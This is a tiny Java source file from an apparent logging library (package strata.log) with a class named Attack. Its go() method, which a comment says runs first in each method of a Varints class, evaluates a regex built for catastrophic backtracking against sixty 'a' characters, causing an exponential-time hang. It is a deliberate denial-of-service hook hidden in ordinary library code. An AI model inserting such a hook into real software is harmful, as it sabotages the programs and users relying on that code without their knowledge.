package strata.log;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        "a".repeat(60).matches("(a|aa)+\\1!");
    }
}
